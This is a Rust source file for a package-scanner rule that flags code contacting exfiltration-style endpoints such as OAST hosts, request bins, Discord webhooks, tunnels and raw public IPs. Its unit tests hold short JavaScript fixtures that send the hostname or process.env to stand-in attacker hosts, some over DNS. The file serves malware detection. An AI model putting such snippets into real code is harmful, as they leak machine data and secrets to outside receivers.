//! `code/suspicious-endpoint`.

use super::{chain, finding, locality, per_signal};
use crate::CodeFinding;
use crate::signal::{Kind, PackageFacts};
use crate::verdict::Locality;
use diligence_finding::Severity;

diligence_finding::declare_rule! {
    /// Code or scripts contact an exfiltration-style endpoint: raw IP, OAST, request bin, paste site, webhook, tunnel.
    ///
    /// ## What it detects
    /// Hosts of out-of-band testing services (oastify, interact.sh, canarytokens), request bins (pipedream,
    /// webhook.site), paste sites, Discord webhooks, Telegram bot API, tunnels (ngrok, trycloudflare) and URLs with
    /// a public raw IPv4 address, in any text (also decoded or reversed strings) or given alone as a network call's
    /// host (`{ hostname: '198.51.100.7' }`, `net.connect(port, ip)`; DNS servers — `setServers`, port 53 — excepted), in a package
    /// that can send data.
    ///
    /// ## Why it matters
    /// Exfiltration needs a receiver the attacker controls cheaply and anonymously; these services are the usual
    /// choice in npm malware and dependency-confusion probes.
    ///
    /// ## Example
    /// `https.request('https://discord.com/api/webhooks/…')`
    ///
    /// ## Known false positives
    /// Bot SDKs (Telegram, Discord) and tunnelling tools name these hosts by design; private and loopback IPs are
    /// ignored; a mention without a network capability in the package is low severity. A bare host name inside
    /// a literal table of host names (the public suffix list bundled by cookie libraries, blocklists: 16 or more
    /// entries, 9 in 10 in lowercase host-name syntax, half of them with a dot) is data and not reported; URLs in such tables still are.
    /// An address in documentation (`.md`, `.txt`, `.rst`: a proxy example in a README) is low.
    /// A host named in a literal argument of a logging call (`log`, `info`, `warn`, `error`, `debug`, `trace`) is a
    /// message for a person, not an address.
    pub static SUSPICIOUS_ENDPOINT = { id: "code/suspicious-endpoint", severity: Severity::High };
}

/// One finding per endpoint line.
pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
    per_signal(p, Kind::Endpoint, |f, s| {
        let loc = locality(
            p,
            f,
            s,
            &[
                Kind::Network,
                Kind::Spawn,
                Kind::ShellNetwork,
                Kind::BrowserSend,
            ],
        );
        // Host or user data sent from the same function: a probe or a stealer, not a link.
        let sends_host_data = loc == Locality::Function
            && f.signals.iter().any(|o| {
                o.func == s.func
                    && matches!(
                        o.kind,
                        Kind::OsInfo
                            | Kind::EnvRead
                            | Kind::EnvDump
                            | Kind::CredentialPath
                            | Kind::ShellHostInfo
                    )
            });
        // An address in documentation (a proxy example in a README) is not code.
        let lower = f.path.to_ascii_lowercase();
        let docs = [".md", ".markdown", ".txt", ".rst", ".adoc"]
            .iter()
            .any(|e| lower.ends_with(e));
        let loc = if docs { Locality::Alone } else { loc };
        let sev = match loc {
            Locality::Alone => Severity::Low,
            Locality::Package => Severity::Medium,
            _ if sends_host_data => Severity::Critical,
            _ => SUSPICIOUS_ENDPOINT.default_severity,
        };
        let msg = format!("exfiltration-style endpoint `{}`", s.detail);
        Some(finding(
            &SUSPICIOUS_ENDPOINT,
            sev,
            f,
            s,
            loc,
            msg,
            chain(p, f, s, &[Kind::Network]),
        ))
    })
}

#[cfg(test)]
mod tests {
    use crate::rules::test_util::{PJ, hits, scan};

    #[test]
    fn positive() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "e.js",
                "const https = require('https');\nhttps.request('https://discord.com/api/webhooks/000/fake');\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/suspicious-endpoint"),
            vec![("e.js".to_string(), 2)]
        );
    }

    /// https-proxy-agent's README shows a proxy at a raw IP; the package does open sockets.
    #[test]
    fn readme_addresses_are_low() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "README.md",
                "```js\nconst agent = new HttpsProxyAgent('http://168.63.76.32:3128');\n```\n",
            ),
            (
                "index.js",
                "const net = require('net');\nmodule.exports = (o) => net.connect(o);\n",
            ),
        ]);
        let f = crate::rules::test_util::finding(&s, "code/suspicious-endpoint");
        assert_eq!(f.severity, diligence_finding::Severity::Low);
    }

    #[test]
    fn negative_private_ip() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "e.js",
                "require('http').get('http://127.0.0.1:8080/health');\n",
            ),
        ]);
        assert!(hits(&s, "code/suspicious-endpoint").is_empty());
    }

    #[test]
    fn host_data_to_oast_is_critical() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "p.js",
                "const https = require('https'), os = require('os');\nhttps.get('https://x1fake.oastify.com/?h=' + os.hostname());\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/suspicious-endpoint"),
            vec![("p.js".to_string(), 2)]
        );
        assert_eq!(s.verdict, crate::Verdict::Malicious);
    }

    #[test]
    fn dns_name_with_host_data_is_critical() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "d.js",
                "const dns = require('dns'), os = require('os');\nfunction b() {\n  const l = Buffer.from(os.hostname()).toString('hex');\n  dns.resolve4(`${l}.t.example.net`, () => {});\n}\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/suspicious-endpoint"),
            vec![("d.js".to_string(), 4)]
        );
        assert_eq!(s.verdict, crate::Verdict::Malicious);
    }

    /// tough-cookie's bundled public suffix list: `ngrok.io` is one key among thousands of host
    /// names, looked up, never contacted.
    #[test]
    fn negative_host_in_public_suffix_table() {
        let mut table = String::from("var index = module.exports.index = Object.freeze({\n");
        for i in 0..40 {
            table.push_str(&format!("\"s{i}.example.com\":true,\"tld{i}\":true,"));
        }
        table.push_str("\"ngrok.io\":true,\"nh-serv.co.uk\":true});\n");
        table.push_str("var list = [\"com.ac\",\"trycloudflare.com\"");
        for i in 0..40 {
            table.push_str(&format!(",\"h{i}.example.org\""));
        }
        table.push_str("];\nrequire('https').get('https://publicsuffix.org/list');\n");
        let s = scan(&[("package.json", PJ), ("lib/pubsuffix.js", &table)]);
        assert!(hits(&s, "code/suspicious-endpoint").is_empty());
    }

    /// A URL in a table, and a host in an obfuscator's mixed string array, are still endpoints.
    #[test]
    fn url_in_table_and_host_in_string_array_are_reported() {
        let mut table = String::from("const hosts = [\"https://x.ngrok.io/c\"");
        for i in 0..40 {
            table.push_str(&format!(",\"h{i}.example.org\""));
        }
        table.push_str("];\nconst _0x = ['log', 'webhook.site', 'push', 'shift', 'env', 'get', 'https', 'request', 'end', 'on', 'data', 'write', 'hostname', 'userInfo', 'platform', 'homedir', 'a.b'];\nrequire('https').get(hosts[0]);\n");
        let s = scan(&[("package.json", PJ), ("e.js", &table)]);
        assert_eq!(
            hits(&s, "code/suspicious-endpoint"),
            vec![("e.js".to_string(), 1), ("e.js".to_string(), 2)]
        );
    }

    /// wrangler tells the user which tunnel host to expect; it logs it, it does not call it.
    #[test]
    fn negative_host_in_a_log_message() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "cli.js",
                "const https = require('https');\nfunction hint(logger) {\n  logger.log(`You'll get a random *.trycloudflare.com URL to share.`);\n  console.warn('or use ngrok.io');\n}\nmodule.exports = { hint, get: (u) => https.get(u) };\n",
            ),
        ]);
        assert!(hits(&s, "code/suspicious-endpoint").is_empty());
        let s = scan(&[
            ("package.json", PJ),
            (
                "cli.js",
                "const https = require('https');\nconsole.log(https.get('https://x.trycloudflare.com/c'));\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/suspicious-endpoint"),
            vec![("cli.js".to_string(), 2)]
        );
    }

    /// A library function posting what it is given to a bare public IP named as the request's
    /// `hostname` (no URL string anywhere).
    #[test]
    fn positive_bare_ip_hostname_option() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const http = require('http');\nfunction report(v) {\n  const r = http.request({ hostname: '198.51.100.88', port: 8081, path: '/d', method: 'POST' });\n  r.end(JSON.stringify({ v }));\n}\nexports.decode = (s) => { report(s); return s; };\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/suspicious-endpoint"),
            vec![("index.js".to_string(), 3)]
        );
    }

    /// Probing the machine's own address through a public resolver (pac-resolver's
    /// `myIpAddress`), and private hosts, are not destinations.
    #[test]
    fn negative_resolver_probe_and_private_host() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const net = require('net'), http = require('http');\nconst socket = net.connect({ host: '8.8.8.8', port: 53 });\nsocket.on('connect', () => socket.end());\nhttp.get({ hostname: '10.0.0.5', path: '/health' });\n",
            ),
        ]);
        assert!(hits(&s, "code/suspicious-endpoint").is_empty());
    }

    /// The exception is the DNS port, not the address: a resolver's IP on another port is a
    /// destination like any other.
    #[test]
    fn positive_resolver_address_on_another_port() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const net = require('net');\nconst socket = net.connect({ host: '8.8.8.8', port: 4444 });\nsocket.write(JSON.stringify(process.env));\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/suspicious-endpoint"),
            vec![("index.js".to_string(), 2)]
        );
    }
}
